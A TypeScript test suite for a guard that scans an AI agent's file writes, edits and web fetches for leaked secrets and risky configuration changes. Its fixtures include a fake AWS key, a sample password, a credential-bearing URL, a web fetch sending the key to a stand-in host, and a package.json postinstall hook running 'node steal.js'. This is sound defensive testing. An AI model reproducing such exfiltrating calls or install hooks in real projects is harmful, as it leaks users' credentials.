import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Action } from '../action/action.ts';
import { surroundingsOf } from '../decide.ts';
import type { JsonObject } from '../encoding/json.ts';
import type { AllowsSecret } from '../secret/allowed-secret.ts';
import { actionOf, factsOf, foreignAction, policyOf } from '../testing/samples.ts';
import { analyseAction } from './analyse-action.ts';

/** A part of a key, so that no scanner takes this file for a leak. */
const part = (text: string): string => text;

const KEY = `AKIA${part('Q3JZ7WXN5TLKP2HD')}`;

function marked(action: Action, allowsSecret?: AllowsSecret): readonly string[] {
  const policy = policyOf({}, allowsSecret === undefined ? {} : { allowsSecret });
  return analyseAction(action, surroundingsOf(factsOf(), policy)).effects.map(
    ({ class: name, marks }) => `${name}${marks.includes('holds-secret') ? '!' : ''}`,
  );
}

describe('A secret', () => {
  test('marks the file that it is written to, and not where it is taken away', () => {
    assert.deepEqual(marked(actionOf('Write', { file_path: 'a', content: `x ${KEY}` })), ['file.write!']);
    assert.deepEqual(marked(actionOf('Edit', { file_path: 'a', old_string: '', new_string: KEY, replace_all: true })), [
      'file.write!',
    ]);
    assert.deepEqual(marked(actionOf('Edit', { file_path: 'a', old_string: KEY, new_string: 'process.env.KEY' })), [
      'file.write',
    ]);
    const edits = {
      file_path: 'a',
      edits: [
        { old_string: KEY, new_string: 'x' },
        { old_string: 'y', new_string: KEY },
      ],
      none: null,
    };
    assert.deepEqual(marked(actionOf('MultiEdit', edits)), ['file.write!']);
    assert.deepEqual(marked(actionOf('Write', { file_path: KEY, content: '' })), ['file.write']);
  });

  test('marks what a call sends or writes, whoever supplies the tool', () => {
    assert.deepEqual(marked(foreignAction({ text: KEY, path: 'a', to: 'bob' })), [
      'unknown!',
      'file.write!',
      'message.send!',
    ]);
    const patch = `*** Begin Patch\n*** Add File: a\n+${KEY}\n*** Delete File: b\n*** End Patch`;
    assert.deepEqual(marked(foreignAction({ patch })), ['unknown!', 'file.write!', 'file.delete']);
    assert.deepEqual(marked(foreignAction({ password: 'Tr0ub4dor&3' })), ['unknown!']);
    assert.deepEqual(marked(foreignAction({ note: 'nothing', count: 3 })), ['unknown']);
    assert.deepEqual(marked(actionOf('WebFetch', { url: `https://a.example/?k=${KEY}` })), ['net.fetch!']);
  });

  test('marks a call that sends it as the name of an argument, whatever its value', () => {
    for (const value of ['ci', 7, null, ['a'], { b: 'c' }])
      assert.deepEqual(marked(foreignAction({ labels: { [KEY]: value } })), ['unknown!'], JSON.stringify(value));
    assert.deepEqual(marked(foreignAction({ [`https://u:Kx9mQ2vL8pZ@db.example/a`]: 'ok' })), ['unknown!']);
    assert.deepEqual(marked(foreignAction({ some_long_name_of_nothing: 'ok' })), ['unknown']);
  });

  test('is what it is written like under a name too: what is let stand stands under any', () => {
    const ofAmazon: AllowsSecret = (kind) => kind === 'aws-access-key-id';
    assert.deepEqual(marked(foreignAction({ password: KEY }), ofAmazon), ['unknown']);
    assert.deepEqual(marked(foreignAction({ password: KEY })), ['unknown!']);
    assert.deepEqual(marked(foreignAction({ password: 'Tr0ub4dor&3' }), ofAmazon), ['unknown!']);
  });

  test('is not looked for where nothing is sent or written', () => {
    assert.deepEqual(marked(actionOf('Grep', { pattern: KEY, path: '.' })), ['file.read']);
  });

  test('may stand where the operator lets it', () => {
    const asked: unknown[] = [];
    const allows: AllowsSecret = (kind, place) => {
      asked.push([kind, place.path, place.isMarked]);
      return true;
    };
    assert.deepEqual(marked(actionOf('Write', { file_path: 'a', content: KEY }), allows), ['file.write']);
    assert.deepEqual(marked(foreignAction({ path: 'b', text: KEY } satisfies JsonObject), allows), [
      'unknown',
      'file.write',
    ]);
    assert.deepEqual(
      marked(foreignAction({ text: KEY }), () => false),
      ['unknown!'],
    );
    assert.deepEqual(asked.slice(0, 2), [
      ['aws-access-key-id', '/home/ada/site/a', false],
      ['aws-access-key-id', '/home/ada/site/b', false],
    ]);
    const lost = actionOf('Write', { file_path: '/tmp/a', content: KEY }, { workspace: '/' });
    assert.deepEqual(
      marked(lost, (_, { places }) => places.workspace === '/'),
      ['file.write'],
    );
  });
});

test('What is risky in an added text is a change of configuration', () => {
  const content = '{ "scripts": { "postinstall": "node steal.js" } }';
  assert.deepEqual(marked(actionOf('Write', { file_path: 'package.json', content })), ['file.write', 'config.modify']);
});
